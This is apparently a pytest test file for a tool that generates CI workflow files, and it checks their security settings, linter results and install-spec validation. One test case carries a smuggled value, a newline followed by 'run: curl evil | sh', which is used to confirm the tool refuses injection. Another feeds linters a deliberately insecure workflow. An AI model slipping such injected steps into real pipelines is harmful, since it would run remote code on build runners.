"""`nlpsetup ci init`: what the generated workflows contain, that the linters find nothing in them,
what they install, and how the file is written."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from nlpsetup.authoring import ciworkflow, matrix
from nlpsetup.base.errors import NlpsetupError

REPO = Path(__file__).resolve().parents[1]
SPEC = "nlpsetup[uv]==0.1.0"
ALL = "linux,macos,windows"


def tool(name: str) -> str | None:
    """A linter from the test extra: on PATH or beside this interpreter."""
    for candidate in (shutil.which(name), Path(sys.executable).parent / name):
        if candidate and Path(candidate).exists():
            return str(candidate)
    return None


@pytest.fixture(scope="module")
def all_recipes(tmp_path_factory):
    """`ci init` over every recipe on every platform (the issue's acceptance run), written once."""
    wf = tmp_path_factory.mktemp("wf") / "wf.yml"
    p = subprocess.run([sys.executable, "-m", "nlpsetup", "ci", "init", "--no-check", "-o", str(wf), "--platform", ALL,
                        "--install-spec", SPEC], capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    return wf, p


def test_every_matrix_fits_githubs_limit_and_every_cell_has_a_runner_with_its_python(all_recipes):
    wf, p = all_recipes
    doc = yaml.safe_load(wf.read_text())
    rows = {r.label: r for r in matrix.runners("github")}
    total = 0
    for job in doc["jobs"].values():
        cells = job["strategy"]["matrix"]["include"]
        assert 0 < len(cells) <= 256
        total += len(cells)
        for c in cells:
            assert c["python"] in rows[c["os"]].pythons and c["arch"] == rows[c["os"]].arch, c
    assert total > 256, "the acceptance set is larger than one matrix, so it must be split"
    assert f"({total} cells in {len(doc['jobs'])} jobs)" in p.stdout
    # Cells no runner can take are counted in one line; --explain gives the reasons.
    (summary,) = [ln for ln in p.stderr.splitlines() if "excluded" in ln]
    assert re.fullmatch(r"\d+ cells excluded .*--explain.*", summary)


def test_workflow_is_secure_by_default(all_recipes):
    wf, _ = all_recipes
    text = wf.read_text()
    doc = yaml.safe_load(text)
    assert doc["permissions"] == {"contents": "read"}
    assert doc["concurrency"]["group"] and doc["concurrency"]["cancel-in-progress"] is True
    pins = matrix.table()["actions"]
    uses = re.findall(r"uses: (\S+)@(\S+) # (\S+)", text)
    assert len(uses) == text.count("uses:") > 0, "every uses: is pinned with its version as a comment"
    for action, sha, version in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", sha) and pins[action] == {"sha": sha, "version": version}
    for job in doc["jobs"].values():
        assert isinstance(job["timeout-minutes"], str) and "matrix.timeout_minutes" in job["timeout-minutes"]
        steps = job["steps"]
        checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
        assert checkout["with"]["persist-credentials"] is False
        for s in steps:
            assert "${{" not in s.get("run", ""), f"an expression inside run: {s['run']}"
        cache = next(s for s in steps if s.get("uses", "").startswith("actions/cache@"))
        assert "matrix.recipe_digest" in cache["with"]["key"]
        assert cache["with"]["key"].startswith(cache["with"]["restore-keys"].strip())
        assert any("uv cache prune --ci" in s.get("run", "") for s in steps)
        assert job["env"]["TOOL"] == "${{ matrix.tool }}" and job["defaults"]["run"]["shell"] == "bash"


def test_zizmor_finds_nothing(all_recipes):
    exe = tool("zizmor")
    if not exe:
        pytest.skip("zizmor is not installed (it comes with the test extra)")
    wf, _ = all_recipes
    p = subprocess.run([exe, "--offline", "--no-progress", str(wf)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0 and "No findings" in p.stdout + p.stderr, p.stdout + p.stderr


def test_actionlint_finds_nothing(all_recipes):
    exe = tool("actionlint")
    if not exe:
        pytest.skip("actionlint is not installed (the test extra brings it on Linux and Windows)")
    wf, _ = all_recipes
    p = subprocess.run([exe, "-no-color", str(wf)], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stdout + p.stderr


def test_linters_do_catch_what_the_generator_avoids(tmp_path):
    """The two linter tests above can fail: the old workflow's faults are findings."""
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  m:\n    runs-on: ubuntu-latest\n    outputs:\n      m: ${{ steps.m.outputs.m }}\n"
                   "    steps:\n      - id: m\n        run: echo m=x >> $GITHUB_OUTPUT\n"
                   "  a:\n    needs: m\n    runs-on: ${{ matrix.os }}\n    strategy:\n"
                   "      matrix: ${{ fromJSON(needs.m.outputs.m) }}\n    steps:\n"
                   "      - uses: actions/checkout@v4\n      - run: nlpsetup install ${{ matrix.tool }}\n"
                   "  b:\n    runs-on: macos-13\n    steps:\n      - run: echo\n")
    if exe := tool("zizmor"):
        out = subprocess.run([exe, "--offline", "--no-progress", str(bad)], capture_output=True, text=True).stdout
        for audit in ("unpinned-uses", "artipacked", "template-injection", "excessive-permissions"):
            assert f"[{audit}]" in out, audit
    if exe := tool("actionlint"):
        out = subprocess.run([exe, "-no-color", str(bad)], capture_output=True, text=True).stdout
        assert 'label "macos-13" is unknown' in out
    if not (tool("zizmor") or tool("actionlint")):
        pytest.skip("neither linter is installed")


def test_gitlab_jobs_fit_its_limit_run_on_a_hosted_tag_and_parse(run_cli, tmp_path):
    out = tmp_path / ".gitlab-ci.yml"
    code, _, err = run_cli("ci", "init", "--no-check", "--provider", "gitlab", "-o", str(out), "--install-spec", SPEC)
    assert code == 0, err
    doc = yaml.safe_load(out.read_text())
    template = doc[".nlpsetup"]
    assert template["tags"] == ["$RUNNER"] and template["image"] == "python:3.12"
    assert '--fetch-python' in " ".join(template["script"])
    jobs = [v for k, v in doc.items() if k.startswith("install")]
    assert jobs and all(0 < len(j["parallel"]["matrix"]) <= 200 for j in jobs)
    tags = {r.label: r for r in matrix.runners("gitlab")}
    for j in jobs:
        for c in j["parallel"]["matrix"]:
            assert c["PYTHON"] in tags[c["RUNNER"]].pythons, c


@pytest.mark.parametrize("platform", ["macos", "linux,windows"])
def test_gitlab_refuses_a_platform_it_has_no_usable_hosted_runner_for(run_cli, tmp_path, platform):
    out = tmp_path / ".gitlab-ci.yml"
    code, _, err = run_cli("ci", "init", "--no-check", "spacy", "--provider", "gitlab", "--platform", platform, "-o", str(out),
                           "--install-spec", SPEC)
    assert code == 2 and "gitlab has no hosted runner nlpsetup can use for" in err and "Traceback" not in err
    assert not out.exists(), "nothing written, no Linux cells swapped in"


def test_output_dash_writes_to_stdout(run_cli, tmp_path):
    code, out, err = run_cli("ci", "init", "--no-check", "spacy", "-o", "-", "--install-spec", SPEC, cwd=tmp_path)
    assert code == 0, err
    assert yaml.safe_load(out)["jobs"]["install"]["strategy"]["matrix"]["include"]
    assert not (tmp_path / "-").exists() and list(tmp_path.iterdir()) == []


def test_ci_init_guards_a_changed_file_and_says_when_it_is_up_to_date(run_cli, tmp_path):
    wf = tmp_path / "wf.yml"
    assert run_cli("ci", "init", "--no-check", "spacy", "-o", str(wf), "--install-spec", SPEC)[0] == 0
    code, out, _ = run_cli("ci", "init", "--no-check", "spacy", "-o", str(wf), "--install-spec", SPEC)
    assert code == 0 and "up to date" in out
    code, out, err = run_cli("ci", "init", "--no-check", "spacy", "adaptnlp", "-o", str(wf), "--install-spec", SPEC)
    assert code == 2 and "--force" in err and "+" in out  # shows the diff
    assert run_cli("ci", "init", "--no-check", "spacy", "adaptnlp", "-o", str(wf), "--install-spec", SPEC, "--force")[0] == 0


def test_generated_workflow_passes_the_github_workflow_schema(run_cli, tmp_path):
    exe = tool("check-jsonschema")
    if not exe:
        pytest.skip("check-jsonschema is not installed (it comes with the test extra)")
    wf = tmp_path / "wf.yml"
    assert run_cli("ci", "init", "--no-check", "spacy", "-o", str(wf), "--install-spec", SPEC)[0] == 0
    p = subprocess.run([exe, "--builtin-schema", "vendor.github-workflows", str(wf)], capture_output=True, text=True)
    assert p.returncode == 0, p.stdout + p.stderr


# --- what the workflow installs ---------------------------------------------------------------------------

def test_install_spec_pins_an_index_install_and_follows_a_vcs_install_to_its_commit():
    assert ciworkflow.install_spec("1.2.3", None) == "nlpsetup[uv]==1.2.3"
    vcs = {"url": "https://user:s3cret@github.com/acme/nlpsetup.git",
           "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "main"}}
    spec = ciworkflow.install_spec("1.2.3", vcs)
    assert spec == f"nlpsetup[uv] @ git+https://github.com/acme/nlpsetup.git@{'a' * 40}"
    assert "s3cret" not in spec
    sub = {**vcs, "subdirectory": "pkg"}
    assert ciworkflow.install_spec("1.2.3", sub).endswith("#subdirectory=pkg")


@pytest.mark.parametrize("direct_url", [{"url": "file:///home/me/nlpsetup", "dir_info": {"editable": True}},
                                        {"url": "file:///tmp/nlpsetup-0.1.0-py3-none-any.whl",
                                         "archive_info": {}}])
def test_install_spec_refuses_a_local_install_and_names_the_option(direct_url):
    with pytest.raises(NlpsetupError) as e:
        ciworkflow.install_spec("0.1.0", direct_url)
    assert "--install-spec" in e.value.hint


def test_ci_init_from_an_editable_checkout_refuses_without_an_install_spec(run_cli, tmp_path):
    # This suite runs from an editable install (direct_url.json says dir_info): no runner can install that.
    code, out, err = run_cli("ci", "init", "--no-check", "spacy", "-o", str(tmp_path / "wf.yml"))
    assert code == 2 and "--install-spec" in err and "cannot install" in err and "Traceback" not in err
    assert not (tmp_path / "wf.yml").exists()


def test_check_resolves_the_spec_on_the_configured_index(tmp_path):
    import wheelhouse
    from nlpsetup import __version__

    wheel = wheelhouse.build_wheel(tmp_path / "dist", "nlpsetup", __version__, files={"nlpsetup/__init__.py": ""})
    index = wheelhouse.write_simple_index(tmp_path / "index", [wheel])
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    env.update(PIP_CONFIG_FILE=os.devnull, PIP_INDEX_URL=index)

    def ci_init(spec, *flags):
        p = subprocess.run([sys.executable, "-m", "nlpsetup", "ci", "init", "spacy", "-o", str(wf), "--install-spec",
                            spec, *flags], capture_output=True, text=True, env=env, timeout=300)
        return p.returncode, p.stderr

    wf = tmp_path / "wf.yml"
    code, err = ci_init(f"nlpsetup[uv]=={__version__}")
    assert code == 0 and "resolves" in err, err
    wf.unlink()
    code, err = ci_init("nlpsetup[uv]==99.0")
    assert code == 2 and "does not resolve" in err and "nlpsetup[uv]==99.0" in err and "Traceback" not in err
    assert not wf.exists(), "a workflow that cannot install nlpsetup is not written"
    assert ci_init("nlpsetup[uv]==99.0", "--check")[0] == 2  # --check is the default, and still accepted
    code, err = ci_init("nlpsetup[uv]==99.0", "--no-check")  # offline: the way out
    assert code == 0 and "resolves" not in err and wf.exists()


def test_the_repository_workflow_is_not_stale(run_cli, tmp_path):
    wf = REPO / ".github" / "workflows" / "nlpsetup.yml"
    first = wf.read_text().splitlines()[0]
    args = first.split("`nlpsetup ci init", 1)[1].split("`", 1)[0].split()
    fresh = tmp_path / "fresh.yml"
    code, _, err = run_cli("ci", "init", "--no-check", *[a.strip("'") for a in args], "-o", str(fresh))
    assert code == 0, err
    assert fresh.read_text() == wf.read_text(), "regenerate it: " + first.lstrip("# ")


@pytest.mark.parametrize(("spec", "words"), [
    ("nlpsetup @ git+https://ghp_T0kenValue123@github.com/o/nlpsetup@abc123", "carries a credential"),
    ("nlpsetup @ git+https://bob:s3cretPw@git.example/o/nlpsetup", "carries a credential"),
    ("nlpsetup==1.0\n  - run: curl evil | sh", "contains a control character"),
    ("nlpsetup==1.0\r", "contains a control character"),
])
def test_an_install_spec_with_a_credential_or_a_control_character_is_refused(run_cli, tmp_path, spec, words):
    wf = tmp_path / "wf.yml"
    for extra in ([], ["--check"]):
        code, out, err = run_cli("ci", "init", "spacy", "-o", str(wf), "--install-spec", spec, *extra)
        assert code == 2 and words in err and "Traceback" not in err, err
        assert "T0kenValue" not in out + err and "s3cretPw" not in out + err and "\n  - run" not in err
        assert not wf.exists()
        assert "secrets." in err or "control" in words  # says how to give the runner the token instead


def test_ci_init_from_a_subfolder_writes_at_the_root_runs_once_per_commit_and_says_what_it_costs(run_cli, tmp_path):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)  # what ci init looks for, walking up (a worktree has a .git file)
    (repo / "src" / "pkg").mkdir(parents=True)
    code, out, err = run_cli("ci", "init", "--no-check", "spacy", "adaptnlp", "--platform", ALL, "--install-spec", SPEC,
                             cwd=repo / "src" / "pkg")
    assert code == 0, err
    wf = repo / ".github" / "workflows" / "nlpsetup.yml"
    assert wf.exists() and not (repo / "src" / "pkg" / ".github").exists()
    doc = yaml.safe_load(wf.read_text())
    triggers = doc[True]  # YAML 1.1 reads the key `on` as true
    assert triggers["push"] == {"branches": ["main"]} and "pull_request" in triggers
    cells = doc["jobs"]["install"]["strategy"]["matrix"]["include"]
    labels = {c["os"] for c in cells}
    (job,) = [ln for ln in out.splitlines() if ln.startswith("  install:")]
    assert f"{len(cells)} cells" in job and all(label in job for label in labels)
    assert f"at most {sum(c['timeout_minutes'] for c in cells)} runner-minutes per run" in out
    assert "you asked for" not in err and len([ln for ln in err.splitlines() if "excluded" in ln]) == 1
    code, _, err = run_cli("ci", "init", "--no-check", "spacy", "adaptnlp", "--platform", ALL, "--install-spec", SPEC,
                           "--explain", "--force", cwd=repo)
    reasons = [ln for ln in err.splitlines() if ln.startswith("  ")]
    assert code == 0 and reasons and len(reasons) == len(set(reasons)) and "you asked for" not in err
    assert any("adaptnlp 0.3.7: needs Python 3.8" in r for r in reasons)


def test_ci_init_checks_the_install_spec_by_default(run_cli, tmp_path):
    env = {k: "" for k in os.environ if k.startswith("PIP_")}
    env.update(PIP_CONFIG_FILE=os.devnull, PIP_INDEX_URL=(tmp_path / "empty").as_uri(), PIP_NO_INDEX="")
    (tmp_path / "empty").mkdir()
    code, _, err = run_cli("ci", "init", "spacy", "-o", str(tmp_path / "wf.yml"), "--install-spec", SPEC, env=env)
    assert code == 2 and "does not resolve" in err and not (tmp_path / "wf.yml").exists()


def test_ci_init_in_a_new_repository_without_a_remote_triggers_on_the_branch_it_is_on(run_cli, tmp_path):
    """A fresh `git init` on master with no remote: a workflow for `main` would never run on a push."""
    repo = tmp_path / "proj"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "master", str(repo)], check=True)
    code, _, err = run_cli("ci", "init", "--no-check", "spacy", "--install-spec", SPEC, cwd=repo)
    assert code == 0, err
    doc = yaml.safe_load((repo / ".github" / "workflows" / "nlpsetup.yml").read_text())
    assert doc[True]["push"] == {"branches": ["master"]}
